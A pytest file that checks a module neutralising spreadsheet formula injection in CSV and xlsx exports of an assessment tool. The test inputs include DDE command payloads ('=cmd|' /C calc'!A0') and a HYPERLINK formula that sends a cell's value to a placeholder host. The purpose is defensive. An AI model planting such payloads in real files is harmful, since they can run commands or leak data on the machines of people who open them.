"""Tests of isgrille.analysis.spreadsheet: CSV that is safe to open in a spreadsheet.

Each dangerous first character (OWASP's list) is neutralised with a single
quote, text that only contains one elsewhere is left alone, numbers the kit
computes stay numbers (negative ones included), and what ``write_csv``
writes is read back by the csv module cell for cell. The Excel flavour
(``;``, decimal comma, CRLF, BOM) and ``write_xlsx`` (text cells never
formulas, numbers numbers) are read back by the kit's own table reader and by
openpyxl; a failed write leaves the previous file whole.
"""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest

from isgrille.analysis.spreadsheet import FORMULA_STARTS, safe_cell, write_csv, write_csv_file, write_xlsx


@pytest.mark.parametrize(
    "text",
    [
        '=HYPERLINK("http://exemple.invalid/?x="&A1;"clic")',
        "+33 6 12 34 56 78",
        "-2+3+cmd|' /C calc'!A0",
        "@SOMME(A1:A9)",
        "\t=1+1",
        "\r=1+1",
        "\0=1",
    ],
)
def test_a_cell_that_could_be_a_formula_gets_a_quote(text):
    assert safe_cell(text) == "'" + text


def test_the_list_is_owasps_plus_nul():
    assert set(FORMULA_STARTS) == {"=", "+", "-", "@", "\t", "\r", "\0"}


@pytest.mark.parametrize("text", ["La Recyclerie", "a=b", "x-1", "'=déjà protégé", " =1", "", "100\u00a0%", "é@"])
def test_ordinary_text_is_left_as_it_is(text):
    assert safe_cell(text) == text


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        (0, "0"),
        (12, "12"),
        (-3, "-3"),
        (66.7, "66.7"),
        (-0.5, "-0.5"),
        (100.0, "100.0"),
        (None, ""),
    ],
)
def test_numbers_stay_numbers_and_none_is_empty(value, cell):
    assert safe_cell(value) == cell


def test_text_that_looks_like_a_negative_number_is_text():
    assert safe_cell("-3") == "'-3"


def test_other_values_are_text_and_neutralised_too():
    assert safe_cell(Path("=x") / "r.json") == "'=x/r.json"
    assert safe_cell(True) == "True"


def test_write_csv_round_trips_through_the_csv_module():
    rows = [
        ["project", "learner", "count", "percent"],
        ['=HYPERLINK("http://x.invalid","a,b")', "Ana\nBel", 3, 66.7],
        ["@cmd", "-Zoé", -1, None],
    ]
    out = io.StringIO()
    assert write_csv(iter(rows), out) == 3
    assert list(csv.reader(io.StringIO(out.getvalue()))) == [
        ["project", "learner", "count", "percent"],
        ['\'=HYPERLINK("http://x.invalid","a,b")', "Ana\nBel", "3", "66.7"],
        ["'@cmd", "'-Zoé", "-1", ""],
    ]
    assert out.getvalue().startswith("project,learner,count,percent\n")


def test_write_csv_of_nothing_writes_nothing():
    out = io.StringIO()
    assert write_csv([], out) == 0 and out.getvalue() == ""


# --- for Excel: its CSV flavour, and xlsx ------------------------------------------------------

ROWS = [
    ["projet", "évaluateur", "date", "caractere_collectif", "score"],
    ["=cmd|' /C calc'!A0", "Zoé; «\u00a0formatrice\u00a0»", "2026-11-26", "Fort", 66.7],
    ["Œuvre à 15 €", "-2+3", "", 0, -1],
]


def test_write_csv_for_excel_semicolons_decimal_comma_and_crlf():
    out = io.StringIO(newline="")
    assert write_csv(ROWS, out, excel=True) == 3
    assert out.getvalue().splitlines(keepends=True)[1] == (
        "'=cmd|' /C calc'!A0;\"Zoé; «\u00a0formatrice\u00a0»\";2026-11-26;Fort;66,7\r\n"
    )
    assert list(csv.reader(io.StringIO(out.getvalue()), delimiter=";"))[2] == ["Œuvre à 15 €", "'-2+3", "", "0", "-1"]


@pytest.mark.parametrize("excel, start", [(False, b"projet,"), (True, b"\xef\xbb\xbfprojet;")])
def test_write_csv_file_writes_atomically_and_reads_back_as_a_cohort(tmp_path, excel, start):
    from isgrille.content.tables import read_table

    path = tmp_path / "export.csv"
    path.write_text("précédent", encoding="utf-8")
    assert write_csv_file(ROWS, path, excel=excel) == 3
    assert path.read_bytes().startswith(start)
    table = read_table(path)
    assert table.header == ROWS[0]
    assert [cells for _, cells in table.rows][1][:2] == ["Œuvre à 15 €", "'-2+3"]
    assert [p.name for p in tmp_path.iterdir()] == ["export.csv"]  # no temporary file left


def test_an_excel_csv_saved_in_windows_1252_reads_back(tmp_path):
    from isgrille.content.tables import read_table

    out = io.StringIO(newline="")
    write_csv(ROWS, out, excel=True)
    path = tmp_path / "cp1252.csv"
    path.write_bytes(out.getvalue().encode("cp1252"))  # as Excel saves « CSV (séparateur : point-virgule) »
    assert [cells for _, cells in read_table(path).rows][1][0] == "Œuvre à 15 €"


def test_write_xlsx_text_stays_text_numbers_stay_numbers(tmp_path):
    import openpyxl

    path = tmp_path / "export.xlsx"
    assert write_xlsx([*ROWS, ["ctrl\x00\x07 char", True, None, 2, 1.5]], path, sheet="Scores") == 4
    sheet = openpyxl.load_workbook(path)["Scores"]
    cells = [[(cell.value, cell.data_type) for cell in row] for row in sheet.iter_rows()]
    assert cells[1][0] == ("=cmd|' /C calc'!A0", "s")  # never a formula
    assert cells[1][4] == (66.7, "n")
    assert cells[2][1] == ("-2+3", "s") and cells[2][3] == (0, "n") and cells[2][4] == (-1, "n")
    assert cells[3] == [("ctrl char", "s"), ("True", "s"), (None, "n"), (2, "n"), (1.5, "n")]
    assert all(data_type != "f" for row in cells for _, data_type in row)


def test_write_xlsx_reads_back_as_the_same_table(tmp_path):
    from isgrille.content.tables import read_table

    path = tmp_path / "export.xlsx"
    write_xlsx(ROWS, path)
    table = read_table(path)
    assert (table.header, table.sheet) == (ROWS[0], "Tableau")
    assert [cells for _, cells in table.rows] == [
        ["=cmd|' /C calc'!A0", "Zoé; «\u00a0formatrice\u00a0»", "2026-11-26", "Fort", "66.7"],
        ["Œuvre à 15 €", "-2+3", "", "0", "-1"],
    ]


def test_write_xlsx_never_destroys_the_previous_file(tmp_path, monkeypatch):
    path = tmp_path / "export.xlsx"
    write_xlsx(ROWS, path)
    before = path.read_bytes()

    def broken_rows():
        yield ROWS[0]
        raise RuntimeError("interrompu")

    with pytest.raises(RuntimeError):
        write_xlsx(broken_rows(), path)
    assert path.read_bytes() == before and [p.name for p in tmp_path.iterdir()] == ["export.xlsx"]
